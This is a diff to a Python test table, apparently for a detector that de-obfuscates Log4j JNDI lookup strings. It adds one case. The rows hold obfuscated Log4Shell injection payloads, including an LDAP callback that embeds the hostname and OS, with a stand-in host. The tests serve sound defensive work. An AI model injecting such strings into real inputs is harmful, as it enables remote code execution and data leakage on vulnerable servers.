@@ -135,6 +135,7 @@ def test_layers_reach_what_is_wrapped_three_times() -> None:
         (b"a ${${lower:J}n${lower:D}i:${::-r}m${env:X:-i}:/h:1099/x} b", b"a jndi:rmi://h:1099/x  b", ("rmi://h:1099/x",)),
         (b"${jndi:dns:h} ${jndi:DNS://h} ${jndi:file:///x}", b"jndi:dns://h  jndi:dns://h  ", ("dns://h",)),
         (b"${date:'j'}${sys:user.home}$${", b"j$${", ()),
+        (b"${jndi:ldap://${hostName}.h/${java:os}}", b"jndi:ldap://h/ ", ("ldap://h/",)),
         (b"no lookups", b"no lookups", ()),
     ],
 )  # fmt: skip
